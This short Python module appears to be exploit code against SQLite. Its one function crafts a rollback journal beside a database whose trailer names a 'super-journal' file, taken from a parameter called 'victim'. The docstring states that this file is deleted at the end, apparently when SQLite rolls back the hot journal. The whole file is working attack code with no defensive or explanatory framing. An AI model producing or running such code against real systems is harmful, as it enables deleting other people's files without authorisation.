"""A journal as SQLite takes one for its own, that names a journal above it: a file that is deleted at the end."""

from __future__ import annotations

import os
import struct
from pathlib import Path

BEGINS = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512


def journal(database: Path, victim: Path) -> bytes:
    """A journal beside a database, without any page in it."""
    stored = int.from_bytes(database.read_bytes()[16:18], "big")
    page = 65536 if stored == 1 else stored
    head = BEGINS + struct.pack(">IIIII", 0, 0, database.stat().st_size // page, SECTOR, page)
    name = os.fsencode(victim)
    check = sum(byte if byte < 128 else byte - 256 for byte in name) & 0xFFFFFFFF
    last = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), check) + BEGINS
    return head.ljust(SECTOR, b"\0") + last
